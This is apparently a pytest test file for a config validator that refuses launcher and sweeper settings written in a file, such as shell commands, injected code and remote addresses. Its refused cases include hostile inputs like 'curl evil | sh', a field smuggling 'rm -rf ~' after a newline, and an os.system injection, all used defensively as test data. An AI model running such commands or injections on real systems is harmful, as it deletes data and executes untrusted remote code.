"""What a file may say of a launcher of another package, and what only the command line may."""

import pytest
from omegaconf import OmegaConf

from mdiff.config.launcher import check_launcher
from mdiff.errors import MdiffError


def hydra(launcher=None, sweeper=None, said=()):
    content = {"launcher": launcher or {}, "sweeper": sweeper or {}, "overrides": {"hydra": list(said)}}
    return OmegaConf.create(content)


@pytest.mark.parametrize(
    "launcher",
    [
        {"n_jobs": 4, "prefer": "processes", "pre_dispatch": "2*n_jobs"},
        {
            "timeout_min": 60,
            "partition": "npu-long",
            "account": "lab_1",
            "submitit_folder": "${hydra.sweep.dir}/.submitit/%j",
        },
        {"ray": {"init": {"num_cpus": 4, "address": None}, "remote": {"num_cpus": 0.5}}},
    ],
)
def test_sizes_and_names_pass(launcher):
    check_launcher(hydra(launcher))


@pytest.mark.parametrize(
    "launcher",
    [
        {"setup": ["curl evil | sh"]},
        {"partition": "x\nrm -rf ~"},
        {"comment": "x"},
        {"additional_parameters": {"wrap": "rm"}},
        {"submitit_folder": "/etc/cron.d"},
        {"pre_dispatch": "__import__('os').system('x')"},
        {"ray": {"init": {"address": "ray://evil:10001"}}},
        {"ray": {"init": {"runtime_env": {"pip": ["evil"]}}}},
        {"ray": {"remote": {"runtime_env": "${oc.create:{pip:[evil]}}"}}},
    ],
)
def test_commands_and_addresses_are_refused_unless_typed(launcher):
    with pytest.raises(MdiffError, match="command line"):
        check_launcher(hydra(launcher))
    key = next(iter(launcher))
    check_launcher(hydra(launcher, said=[f"hydra.launcher.{key}=…"]))


@pytest.mark.parametrize("sweeper", [{"custom_search_space": "os.system"}, {"storage": "sqlite:////etc/x"}])
def test_a_sweeper_imports_and_writes_nothing_by_a_file(sweeper):
    with pytest.raises(MdiffError, match="command line"):
        check_launcher(hydra(sweeper=sweeper))
    check_launcher(hydra(sweeper=sweeper, said=[f"hydra.sweeper.{next(iter(sweeper))}=x"]))


def test_a_grid_is_any_text():
    check_launcher(hydra(sweeper={"params": {"prompt.text": "a cat,a dog", "steps": "5,10"}, "direction": "minimize"}))
